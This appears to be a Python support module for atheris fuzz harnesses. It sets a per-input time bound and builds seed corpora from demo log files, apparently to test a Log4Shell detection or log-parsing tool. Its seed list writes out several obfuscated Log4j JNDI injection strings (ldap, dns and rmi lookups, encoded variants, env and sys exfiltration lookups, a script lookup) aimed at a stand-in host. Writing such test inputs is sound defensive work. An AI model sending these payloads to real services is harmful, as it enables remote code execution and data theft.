"""What the atheris harnesses share: a per-input time bound and seed corpora."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
DEMO = REPO / "samples" / "demo"

#: Seconds one input may take; inputs are at most a few tens of kilobytes, so
#: anything slower means work that does not grow linearly with the input.
TIME_BOUND = 1.0


class SlowInput(Exception):
    """An input took longer than :data:`TIME_BOUND`; atheris saves it as a crash."""


def bounded(call: Callable[[], object], what: str) -> None:
    """Run ``call``; raise :class:`SlowInput` when it took too long."""
    started = time.perf_counter()
    call()
    elapsed = time.perf_counter() - started
    if elapsed > TIME_BOUND:
        raise SlowInput(f"{what} took {elapsed:.2f} s (bound {TIME_BOUND} s)")


def seed_lines() -> Iterator[bytes]:
    """Real records of every shape the demo holds, and a few hostile ones."""
    benign = (DEMO / "apache_logs").read_bytes().splitlines()
    yield from benign[:: len(benign) // 40]
    yield from (DEMO / "crowdsec_log4j.log").read_bytes().splitlines()
    yield from (DEMO / "corelight_log4j_requests.ecs.jsonl").read_bytes().splitlines()
    prefix = b'198.51.100.7 - - [10/Dec/2021:14:25:38 +0000] "GET /'
    suffix = b' HTTP/1.1" 200 5 "-" "x"'
    for body in (
        b"${${::-j}ndi:ldap://a.example/x}",
        b"%24%7Bjndi:ldap://a.example/x%7D",
        b"${${lower:${lower:j}}ndi:${env:X:-l}dap://a.example/${sys:user.name}}",
        b"$${jndi:ldap://a.example/x}",
        b"${jndi:ldap://a.example#b.example/x}",
        b"\\u0024\\u007bjndi:dns://a.example/x}",
        b"&#36;&#123;jndi:rmi://a.example/x}",
        b"${script:javascript:java.lang.Runtime.getRuntime()}",
    ):
        yield prefix + body + suffix
    yield b'{"@timestamp":"9999-12-31T23:59:59-14:00","source":{"ip":"192.0.2.1"}}'
    yield b'{"@timestamp":1e300,"source":{"ip":["x"]},"url":{"original":{}}}'


def write_seeds(directory: Path, items: Iterator[bytes]) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for number, item in enumerate(items):
        (directory / f"seed-{number:03d}").write_bytes(item)
